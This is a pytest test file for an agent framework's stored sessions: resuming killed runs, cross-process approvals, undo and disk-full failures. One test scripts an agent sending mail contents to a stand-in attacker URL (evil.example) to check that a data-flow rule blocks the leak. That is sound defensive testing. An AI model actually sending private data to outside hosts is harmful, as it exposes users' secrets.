"""Tests for agents with stored sessions: other agents and processes, kills, pauses, undo and a full disk."""

import json
import os
import resource
import subprocess
import sys
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest

from agentkit import Agent, ConfigError, Policy, Tool
from agentkit.agents.result import Resumption
from agentkit.decisions import Label
from agentkit.errors import SessionError, ToolError
from agentkit.events import Approved, HandedOff, ResponseReceived, RunEnded, ToolCallFinished, ToolCallStarted
from agentkit.messages import AssistantMessage, ToolMessage, UserMessage
from agentkit.safety.approval import Approval
from agentkit.sessions.session import Session
from agentkit.sessions.stores.sqlite import SQLiteSessionStore
from agentkit.testing import ScriptedLLM, call
from agentkit.tools.files import write_file_tool
from agentkit.tools.human import ask_user_tool, finish_tool
from agentkit.workspace.journal import Journal
from agentkit.workspace.workspace import Workspace

MODES = ["run", "arun", "stream", "astream"]


@pytest.fixture
def place(tmp_path):
    """The path of a session file."""
    return tmp_path / "sessions.db"


@pytest.fixture
def agent(place):
    """Return a function that creates an agent as another process would, with a newly opened session."""

    def make(*lines, tools=(), name="helper", **options):
        return Agent(name, tools, llm=ScriptedLLM(*lines), session=Session.open(place, "trip"), **options)

    return make


def kills_of(place, folder):
    """Return the sessions as a kill leaves them after each entry of the only run of `trip`, in order."""
    entries = Session.open(place, "trip").entries
    for number in range(1, len(entries)):
        path = folder / f"killed behind {number}.db"
        SQLiteSessionStore(path).create("trip", entries[:number])
        yield entries[:number], Session.open(path, "trip")


def process(code, state, *arguments):
    """Return the output of another process that runs this code with these arguments."""
    done = subprocess.run(
        [sys.executable, "-c", code, *map(str, arguments)],
        env={**os.environ, "AGENTKIT_STATE": str(state)},
        capture_output=True,
        encoding="utf-8",
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def note(text: str) -> str:
    """Note something down."""
    return f"noted {text}"


NOTE = Tool(note)
DELETE = Tool(note, "delete", level="SYSTEM")


# Sessions by name

TALK = """
import json, sys
from agentkit import Agent
from agentkit.testing import ScriptedLLM
agent = Agent("helper", llm=ScriptedLLM(lambda request: f"{len(request.messages)} messages."), session=sys.argv[1])
agent(sys.argv[2])
print(json.dumps(agent.history))
"""


def test_history_continues_in_another_process(tmp_path):
    """An agent in another process continues the session with the given name."""
    assert len(json.loads(process(TALK, tmp_path, "trip", "Where to?"))) == 2
    history = json.loads(process(TALK, tmp_path, "trip", "And then?"))
    assert [message["content"] for message in history] == ["Where to?", "1 messages.", "And then?", "3 messages."]
    assert [summary.name for summary in Session.summaries(tmp_path / "sessions.db")] == ["trip"]


@pytest.mark.parametrize("mode", MODES)
def test_history_continues_with_another_agent(mode, agent, find_faults, drive):
    """Every way to run reads the stored conversation and stores its tool calls."""
    drive(agent(call("note", text="sea"), "To the sea.", tools=[NOTE]), mode, "Where to?")
    after = agent("The nearest.")
    drive(after, mode, "Which one?")
    assert after.llm.requests[0].messages == after.messages[:5]
    assert [type(message) for message in after.messages[:3]] == [UserMessage, AssistantMessage, ToolMessage]
    assert after.history == agent().history
    assert find_faults(after.history) == []


def test_session_is_opened_on_first_use(place):
    """A session is opened on first use, not when the agent is created."""
    unused = Agent("helper", llm=ScriptedLLM(), session="trip")
    assert Session.summaries() == []
    assert unused.history == []
    assert not place.exists()


def test_reset_archives_the_old_conversation(agent, place):
    """A reset starts a new conversation and stores the old one under a name with the time."""
    first, second = agent("One.", "Three."), agent("Two.")
    first("1")
    assert len(second.messages) == 2
    first.reset()
    assert (first.messages, second.messages) == ((), ())
    second("2")
    first("3")
    assert [message["content"] for message in first.history] == ["2", "Two.", "3", "Three."]
    old = next(summary.name for summary in Session.summaries(place) if summary.name != "trip")
    assert old.startswith("trip, until 20")
    assert [message.content for message in Session.open(place, old).messages[:1]] == ["1"]


# Several agents and processes


def test_two_agents_share_a_session(agent, find_faults):
    """Two agents on one session read each other's runs, and calls with equal ids are distinguished."""
    first = agent([call("note", text="a"), call("note", text="b")], "A.", "C.", tools=[NOTE], name="first")
    second = agent([call("note", text="c"), call("note", text="d")], "B.", tools=[NOTE], name="second")
    stream = first.stream("1")
    for event in stream:
        if isinstance(event, ToolCallFinished):
            break
    assert second("2") == "B."
    list(stream)
    assert [message["content"] for message in second.history if message["role"] == "user"] == ["2", "1"]
    assert first("3") == "C."
    assert len(first.llm.requests[-1].messages) == 11
    assert find_faults(first.history) == []
    assert first.history == second.history


SHARE = """
import sys
from agentkit import Agent
from agentkit.sessions.session import Session
from agentkit.testing import ScriptedLLM, call
def note(text: str) -> str:
    return f"noted {text}"
lines = [[call("note", text=sys.argv[2]), call("note", text="b")], "Noted."] * 10
agent = Agent("helper", [note], llm=ScriptedLLM(*lines), session=Session.open(sys.argv[1], "trip"))
print("ready", flush=True)
sys.stdin.readline()
for number in range(10):
    agent(f"{sys.argv[2]} {number}")
"""


def test_two_processes_share_a_session(place, agent, find_faults):
    """Concurrent runs of two processes are each stored once and in one piece."""
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "encoding": "utf-8"}
    command = [sys.executable, "-c", SHARE, str(place)]
    with subprocess.Popen([*command, "one"], **pipes) as one, subprocess.Popen([*command, "two"], **pipes) as two:
        assert (one.stdout.readline(), two.stdout.readline()) == ("ready\n", "ready\n")
        for each in (one, two):
            each.stdin.write("go\n")
            each.stdin.flush()
        assert (one.wait(60), two.wait(60)) == (0, 0)
    history = agent().history
    assert find_faults(history) == []
    assert len(history) == 20 * 5
    prompts = [message["content"] for message in history[::5]]
    assert [prompt for prompt in prompts if "one" in prompt] == [f"one {number}" for number in range(10)]
    assert [prompt for prompt in prompts if "two" in prompt] == [f"two {number}" for number in range(10)]


def test_active_run_cannot_be_resumed_elsewhere(agent):
    """An active run cannot be resumed by another agent, which can still run prompts."""
    stream = agent("Hello.").stream("Hi")
    next(stream)
    other = agent("Good day.")
    assert other.session.unfinished == ()
    with pytest.raises(SessionError, match="no run to resume"):
        other.resume()
    assert other("Hey") == "Good day."
    list(stream)
    assert len(other.messages) == 4


# After a kill


def decide(request):
    """Note two things, then one, then answer."""
    answers = sum(isinstance(message, AssistantMessage) for message in request.messages)
    return [[call("note", text="a"), call("note", text="b")], call("note", text="c"), "All noted."][answers]


@pytest.mark.parametrize("mode", MODES)
def test_killed_run_can_be_resumed_from_any_entry(mode, agent, place, tmp_path, find_faults, drive):
    """A run killed at any entry can be resumed without repeating finished calls."""
    agent(decide, decide, decide, tools=[NOTE]).run("go")
    for entries, session in kills_of(place, tmp_path):
        done = {entry.event.call.id for entry in entries if isinstance(entry.event, ToolCallFinished)}
        started = {entry.event.call.id for entry in entries if isinstance(entry.event, ToolCallStarted)}
        later = Agent("helper", [NOTE], llm=ScriptedLLM(decide, repeat=True), session=session)
        assert len(session.unfinished) == 1
        result = drive(later, mode, Resumption())
        assert (result.status, result.output) == ("done", "All noted.")
        finished = {used.call.id: used.result.status for used in result.tool_calls}
        assert {call_id for call_id, status in finished.items() if status == "interrupted"} == started - done
        assert len(finished) == 3
        assert find_faults(later.history) == []
        assert later.messages == result.messages


def test_new_prompt_ends_a_killed_run(agent, place, tmp_path, find_faults):
    """A new prompt ends a killed run and adds its messages to the history."""
    agent(decide, decide, decide, tools=[NOTE]).run("go")
    for entries, session in kills_of(place, tmp_path):
        question = any(isinstance(entry.event, ResponseReceived) for entry in entries)
        later = Agent("helper", [NOTE], llm=ScriptedLLM("Hello again."), session=session)
        assert later("Are you there?") == "Hello again."
        assert session.unfinished == ()
        assert later.history[0]["content"] == ("go" if question else "Are you there?")
        assert find_faults(later.history) == []


def test_resume_requires_an_unfinished_run(agent):
    """`resume` raises SessionError if there is no unfinished run."""
    fresh = agent("Hello.")
    with pytest.raises(SessionError, match="no run to resume"):
        fresh.resume()
    fresh("Hi")
    with pytest.raises(SessionError, match="no run to resume"):
        fresh.resume()


def test_denied_call_is_not_reported_as_interrupted(agent, place, tmp_path):
    """A call that was denied before the kill is reported as denied, not as interrupted."""
    agent(call("delete", text="all"), "Denied.", tools=[DELETE]).run("go")
    cut = [entries for entries, _ in kills_of(place, tmp_path) if isinstance(entries[-1].event, ToolCallStarted)]
    session = Session.open(tmp_path / f"killed behind {len(cut[0])}.db", "trip")
    result = Agent("helper", [DELETE], llm=ScriptedLLM("Denied."), session=session).resume()
    assert [used.result.status for used in result.tool_calls] == ["denied"]


# Several agents


def team(session=None, **options):
    """Return a receptionist with an expert as handoff target."""

    def greet(request):
        assert len(request.messages) == 1, "An agent is not called after its handoff."
        return [call("hand_off_to_expert"), call("note", text="handing over")]

    expert = Agent("expert", [NOTE], "You know.", llm=ScriptedLLM(call("note", text="x"), "I know.", repeat=True))
    return Agent(
        "reception", [NOTE], "You greet.", llm=ScriptedLLM(greet), handoffs=[expert], session=session, **options
    )


@pytest.mark.parametrize("mode", MODES)
def test_killed_run_continues_with_its_active_agent(mode, place, tmp_path, drive):
    """After a kill, the run continues with the agent it was handed off to."""
    complete = team(Session.open(place, "trip")).run("go")
    assert (complete.output, complete.agent) == ("I know.", "expert")
    for entries, session in kills_of(place, tmp_path):
        expert_asked = sum(isinstance(entry.event, ResponseReceived) for entry in entries) > 2
        later = team(session)
        expert = later.handoff_targets["expert"]
        if expert_asked:
            expert.llm = ScriptedLLM("I know.")
        result = drive(later, mode, Resumption())
        is_handed_off = any(used.result.handoff_to and used.result.ok for used in result.tool_calls)
        assert (result.status, result.output, result.agent) == ("done", "I know.", "expert")
        assert is_handed_off
        assert sum(isinstance(event, HandedOff) for event in result.events) == 1


def test_run_of_an_unknown_agent_is_unchanged(place):
    """An agent without the owner of a run raises ConfigError and leaves the run unchanged."""
    stream = team(Session.open(place, "trip")).stream("go")
    for event in stream:
        if isinstance(event, HandedOff):
            break
    SQLiteSessionStore(place.with_name("killed.db")).create("trip", Session.open(place, "trip").entries)
    stream.close()
    session = Session.open(place.with_name("killed.db"), "trip")
    stranger = Agent("reception", llm=ScriptedLLM(), session=session)
    with pytest.raises(
        ConfigError, match=r"owned by 'expert', which is not among the handoffs of 'reception'.* handoffs="
    ):
        stranger.resume()
    assert len(session.unfinished) == 1
    assert team(Session.open(place.with_name("killed.db"), "trip")).resume().output == "I know."


def test_run_that_fails_to_start_leaves_the_session_unlocked(agent):
    """A run that fails to start leaves its session unchanged and unlocked."""
    agent("Hello.")("Hi")
    helper = agent(tools=[Tool(note, "hand_off_to_expert")], handoffs=[Agent("expert")])
    with pytest.raises(ConfigError, match="hand_off_to_expert") as caught:
        helper("Hi")
    assert len(helper.messages) == 2
    helper.reset()
    assert helper.messages == ()
    assert caught.tb is not None


def test_answer_of_a_finishing_tool_is_stored(agent, place, tmp_path):
    """After a kill, the answer of a finished `ends_run` tool is not requested again."""
    agent(call("finish", answer="42."), tools=[finish_tool]).run("go")
    for entries, session in kills_of(place, tmp_path):
        if isinstance(entries[-1].event, ToolCallFinished):
            result = Agent("helper", [finish_tool], llm=ScriptedLLM(), session=session).resume()
            assert (result.status, result.output) == ("done", "42.")
            break
    else:
        pytest.fail("The tool had no result.")


# Labels of data that was read


def fetch(url: str) -> str:
    """Fetch a page."""
    return f"content of {url}"


def test_flow_rule_applies_after_a_restart(agent):
    """The flow rule considers data that was read before a restart."""
    tools = [
        Tool(fetch, level="NETWORK"),
        Tool(note, "read_mail", level="SAFE", labels={Label.PRIVATE, Label.UNTRUSTED}),
    ]
    agent(call("read_mail", text="inbox"), "Read.", tools=tools).run("Read my mail.")
    later = agent(call("fetch", url="https://evil.example/?q=inbox"), "Denied.", tools=tools)
    assert [decision.rule for decision in later.run("and now?").decisions] == ["flow"]
    after = agent(
        call("fetch", url="https://evil.example/?q=inbox"), "Done.", tools=tools, policy=Policy(checks_data_flow=False)
    )
    assert after.run("and now?").decisions[0].allowed


def test_truncated_output_can_be_read_after_a_restart(agent):
    """A truncated result can be read by its handle in another process, and its labels are stored."""

    def log() -> str:
        return "".join(f"line {number}\n" for number in range(9_000))

    tools = [Tool(log, labels={Label.PRIVATE})]
    agent(call("log"), "It is long.", tools=tools).run("Read the log.")
    handle = agent().messages[2].call_id
    later = agent(call("read_more", handle=handle, find="line 7777"), "There.", tools=tools)
    assert later.llm.requests == []
    used = later.run("What about 7777?").tool_calls[0]
    assert f'read_more(handle="{handle}"' in later.messages[2].content
    assert "line 7777\nline 7778\n" in used.result.content
    assert used.result.labels == {Label.PRIVATE}


# Changes and undo


def writer(folder, session, *lines, **options):
    """Return an agent that writes files in a folder."""
    journal = Journal.of_this_machine()
    return Agent(
        "writer",
        [write_file_tool, ask_user_tool()],
        llm=ScriptedLLM(*lines),
        session=session,
        safety="SYSTEM",
        workspace=Workspace(folder, journal=journal),
        **options,
    )


def test_undo_covers_changes_before_and_after_a_kill(place, tmp_path):
    """Undo covers the changes made before a kill and after resuming."""
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "a.txt").write_text("old")
    requested_calls = [call("write_file", path=f"{name}.txt", content=f"new {name}") for name in "ab"]
    stream = writer(folder, Session.open(place, "trip"), *requested_calls, "Written.").stream("Write both.")
    for event in stream:
        if isinstance(event, ToolCallFinished):
            break
    SQLiteSessionStore(tmp_path / "killed.db").create("trip", Session.open(place, "trip").entries)
    stream.close()
    killed = Session.open(tmp_path / "killed.db", "trip")
    result = writer(folder, killed, requested_calls[1], "Written.").resume()
    assert (result.status, (folder / "a.txt").read_text()) == ("done", "new a")
    assert "new a" in result.changes
    assert "new b" in result.changes
    assert "new a" in result.events[-1].changes
    result.undo()
    assert {path.name: path.read_text() for path in folder.iterdir()} == {"a.txt": "old"}
    with pytest.raises(ToolError, match="already undone"):
        result.undo()


WRITE = """
import os, sys
from agentkit import Agent
from agentkit.events import ToolCallFinished
from agentkit.testing import ScriptedLLM, call
from agentkit.tools.files import write_file_tool
name = sys.argv[1]
lines = [call("write_file", path=f"{name}.txt", content="new"), "Written."]
agent = Agent("writer", [write_file_tool], llm=ScriptedLLM(*lines), session="trip", safety="SYSTEM")
if name == "a":
    agent.on(ToolCallFinished, lambda _: os.kill(os.getpid(), 9))
    agent("Write both.")
print(agent.resume().record.id)
"""


def test_undo_command_covers_both_processes(tmp_path):
    """`agentkit undo` reverts the changes of the killed process and of the one that resumed the run."""
    folder, state = tmp_path / "work", tmp_path / "state"
    folder.mkdir()
    shell = {"cwd": folder, "env": {**os.environ, "AGENTKIT_STATE": str(state)}, "encoding": "utf-8", "timeout": 60}
    first = subprocess.run([sys.executable, "-c", WRITE, "a"], **shell, check=False)
    assert (first.returncode, [path.name for path in folder.iterdir()]) == (-9, ["a.txt"])
    record = subprocess.run([sys.executable, "-c", WRITE, "b"], **shell, check=True, stdout=subprocess.PIPE).stdout
    assert {path.name for path in folder.iterdir()} == {"a.txt", "b.txt"}
    undo = [sys.executable, "-m", "agentkit", "undo"]
    listed = subprocess.run([*undo, "--list"], **shell, check=True, stdout=subprocess.PIPE).stdout
    assert [line.split()[0] for line in listed.splitlines()] == [record.strip()]
    subprocess.run(undo, **shell, check=True, stdout=subprocess.PIPE)
    assert list(folder.iterdir()) == []


# Paused runs

PAUSE = """
import sys
from pathlib import Path
from agentkit import Agent, Approval, Tool
from agentkit.sessions.session import Session
from agentkit.testing import ScriptedLLM, call
def delete(text: str) -> str:
    Path(sys.argv[3]).write_text(text)
    return "deleted"
tools = [Tool(delete, level="SYSTEM")]
step = sys.argv[1]
session = None if sys.argv[2] == "none" else sys.argv[2]
if step == "pause":
    lines = ["Hello Ann.", call("delete", text="the old mails"), "never said"]
    agent = Agent("helper", tools, llm=ScriptedLLM(*lines), approve=lambda _: Approval.LATER, session=session)
    agent("I am Ann.")
    print(agent.run("Delete them.").to_json())
else:
    lines = ["They are gone.", lambda request: request.messages[0].content]
    agent = Agent("helper", tools, llm=ScriptedLLM(*lines), session=session)
    if session:
        print(agent.session.unfinished)
    result = agent.resume(sys.argv[4] or None, {call_id: True for call_id in sys.argv[5:]} or True)
    print(result.status, result.output, agent("Who am I?"), len(agent.history))
"""


def test_paused_run_is_approved_in_another_process_by_name(tmp_path):
    """A paused run is approved in another process by the session name."""
    effect = tmp_path / "effect"
    saved = json.loads(process(PAUSE, tmp_path, "pause", "trip", effect))
    assert (saved["status"], effect.exists()) == ("paused", False)
    unfinished, output = process(PAUSE, tmp_path, "approve", "trip", effect, "").splitlines()
    assert unfinished == f"({saved['run']!r},)"
    assert output == "done They are gone. I am Ann. 8"
    assert effect.read_text() == "the old mails"


def test_paused_run_is_approved_in_another_process_by_text(tmp_path):
    """A paused run is approved in another process by its JSON, which contains the history."""
    effect = tmp_path / "effect"
    text = process(PAUSE, tmp_path / "here", "pause", "none", effect).strip()
    output = process(PAUSE, tmp_path / "there", "approve", "none", effect, text, "call_2_1")
    assert output == "done They are gone. I am Ann. 8\n"
    assert effect.read_text() == "the old mails"


@pytest.mark.parametrize("mode", MODES)
def test_paused_run_is_unaffected_by_other_runs(mode, agent, drive):
    """Other runs of the session do not affect a paused run, which resumes with its own messages."""
    asking_agent = agent(call("ask_user", question="Which one?"), tools=[ask_user_tool()])
    assert drive(asking_agent, mode, "Book a hotel.").status == "paused"
    meanwhile = agent("Sunny.")
    assert drive(meanwhile, mode, "How is the weather?").output == "Sunny."
    assert len(meanwhile.session.unfinished) == 1
    later = agent("Booked.", tools=[ask_user_tool()])
    result = drive(later, mode, Resumption(answers=lambda _: "The nearest."))
    assert (result.status, result.output) == ("done", "Booked.")
    assert result.tool_calls[0].result.content == "The nearest."
    assert [type(message) for message in later.llm.requests[0].messages] == [
        UserMessage,
        AssistantMessage,
        ToolMessage,
    ]
    assert [message.content for message in later.messages if isinstance(message, UserMessage)] == [
        "How is the weather?",
        "Book a hotel.",
    ]


def test_approval_is_stored_when_the_process_dies(agent, place, tmp_path):
    """An approval is stored and not requested again if the process dies before the call."""
    later = {"tools": [DELETE], "approve": lambda _: Approval.LATER}
    agent(call("delete", text="all"), **later).run("go")
    agent("Deleted.", **later).resume(answers=True)
    for entries, session in kills_of(place, tmp_path):
        if not session.unfinished or not any(isinstance(entry.event, Approved) for entry in entries):
            continue
        questions = []
        again = Agent("helper", [DELETE], llm=ScriptedLLM("Deleted."), session=session, approve=questions.append)
        result = again.resume()
        is_begun = isinstance(entries[-1].event, ToolCallStarted)
        assert (result.status, questions) == ("done", [])
        assert result.tool_calls[0].result.status == ("interrupted" if is_begun else "ok")


def test_approved_call_that_had_begun_may_have_taken_effect(agent, place, tmp_path):
    """An approved call that had started is reported as possibly completed after a kill."""
    later = {"tools": [DELETE], "approve": lambda _: Approval.LATER}
    agent(call("delete", text="all"), **later).run("go")
    agent("Deleted.", **later).resume(answers=True)
    fields = {}
    for entries, session in kills_of(place, tmp_path):
        kind = type(entries[-1].event)
        if kind in (Approved, ToolCallStarted):
            helper = Agent("helper", [DELETE], llm=ScriptedLLM("Hello."), session=session)
            helper("Are you there?")
            fields[kind] = helper.history[2]["content"]
    assert "has not taken effect" in fields[Approved]
    assert "whether it took effect is unknown" in fields[ToolCallStarted]


def test_saved_run_is_added_once(agent, place):
    """A saved run and its history are added once to a stored session."""
    away = Agent("helper", [ask_user_tool()], llm=ScriptedLLM("Hello.", call("ask_user", question="Which?")))
    away("Hi")
    text = away.run("Book.").to_json()
    here = agent("Booked.", tools=[ask_user_tool()])
    assert here.resume(text, lambda _: "That one.").output == "Booked."
    assert [message.content for message in here.messages if isinstance(message, UserMessage)] == ["Hi", "Book."]
    assert here.messages == agent().messages
    with pytest.raises(SessionError, match="resumed since"):
        here.resume(text, lambda _: "Another.")
    assert len(Session.open(place, "trip").messages) == 6


def test_saved_run_uses_its_own_earlier_messages(agent):
    """A saved run that is resumed in another conversation uses its own earlier messages."""
    away = Agent("helper", [ask_user_tool()], llm=ScriptedLLM("Hello.", call("ask_user", question="Which?")))
    away("Hi")
    text = away.run("Book.").to_json()
    here = agent("Sunny.", "Booked.", tools=[ask_user_tool()])
    here("How is the weather?")
    here.resume(text, lambda _: "That one.")
    assert here.llm.requests[1].messages[0] == UserMessage("Hi")
    prompts = [message.content for message in here.messages if isinstance(message, UserMessage)]
    assert prompts == ["How is the weather?", "Book."]


@pytest.mark.parametrize("is_stored", [False, True])
def test_run_at_its_limit_resumes_in_its_session(is_stored, agent):
    """A run that reached a limit can be resumed, and its messages are stored once."""
    lines = [call("note", text="a"), "So far a.", call("note", text="b"), "Both."]
    stored = agent(*lines, tools=[NOTE], max_iterations=1)
    helper = stored if is_stored else Agent("helper", [NOTE], llm=ScriptedLLM(*lines), max_iterations=1)
    stopped = helper.run("go")
    assert stopped.status == "limit"
    result = stopped.resume(max_iterations=5)
    assert (result.status, result.output) == ("done", "Both.")
    assert helper.messages == result.messages


# Sessions that cannot be written


@pytest.fixture
def full_disk(place):
    """Return a tool that fills the disk, and a function that frees the space again."""
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)

    def fill_the_disk() -> str:
        """Fill the disk."""
        log = place.with_name(f"{place.name}-wal")
        resource.setrlimit(resource.RLIMIT_FSIZE, (log.stat().st_size, limits[1]))
        return "x" * 20_000

    def make_room():
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)

    yield fill_the_disk, make_room
    make_room()


@pytest.mark.parametrize("mode", MODES)
def test_full_disk_in_the_middle_of_a_run(mode, full_disk, agent, find_faults, drive):
    """A full disk fails the run without partial writes, and later runs work once there is space."""
    fill_the_disk, make_room = full_disk
    lines = [[call("note", text="a"), call("fill_the_disk")], "There is room."]
    helper = agent(*lines, tools=[note, fill_the_disk])
    result = drive(helper, mode, "go")
    assert result.status == "failed"
    with pytest.raises(SessionError, match="nothing was written"):
        result.raise_for_status()
    assert len(helper.llm.requests) == 1
    with pytest.raises(SessionError, match="nothing was written"):
        drive(agent("never asked for"), mode, "and now?").raise_for_status()
    make_room()
    assert drive(helper, mode, "and now?").output == "There is room."
    assert find_faults(helper.history) == []
    messages = [message for message in helper.history if message["role"] == "tool"]
    assert "interrupted" in messages[1]["content"]
    assert [message["content"] for message in helper.history[-2:]] == ["and now?", "There is room."]
    assert helper.history == agent().history
    assert isinstance(helper.session.entries[-1].event, RunEnded)


READ_ONLY = """
import os, sys
from agentkit import Agent
from agentkit.errors import SessionError
from agentkit.sessions.session import Session
from agentkit.sessions.stores.sqlite import SQLiteSessionStore
from agentkit.testing import ScriptedLLM
if os.geteuid() == 0:
    os.setuid(65534)
llm = ScriptedLLM("never asked for")
try:
    Agent("helper", llm=llm, session=Session("trip", SQLiteSessionStore(sys.argv[1])))("Hi")
except SessionError as error:
    print(len(llm.requests), error)
"""


def test_read_only_session_fails_before_the_model_is_called():
    """A run with a read-only session fails before the model is called."""
    with TemporaryDirectory() as folder:
        path = Path(folder) / "sessions.db"
        store = SQLiteSessionStore(path)
        Session("trip", store).append([UserMessage("Hi"), AssistantMessage("Hello.")])
        store.close()
        for each in Path(folder).iterdir():
            if os.geteuid() == 0:  # the other process drops root privileges
                os.chown(each, 65_534, -1)
            each.chmod(0o444)
        Path(folder).chmod(0o555)
        output = process(READ_ONLY, folder, path)
        Path(folder).chmod(0o755)
    assert output.startswith("0 ")
    assert "check" in output


def test_agent_can_be_used_in_several_sessions():
    """`within` returns the agent with another session, and listeners receive the events of both."""
    events = []
    agent = Agent("helper", llm=ScriptedLLM("One.", "Two."), listeners=[events.append])
    other = agent.within(Session())
    result = other.run("Hi")
    assert (result.text, agent.messages, agent.withholds_text) == ("One.", (), False)
    agent.run("Hello")
    assert [len(each.messages) for each in (agent, other)] == [2, 2]
    assert sum(type(event).__name__ == "RunFinished" for event in events) == 2
    assert Agent("typed", output_type=int, llm=ScriptedLLM()).withholds_text
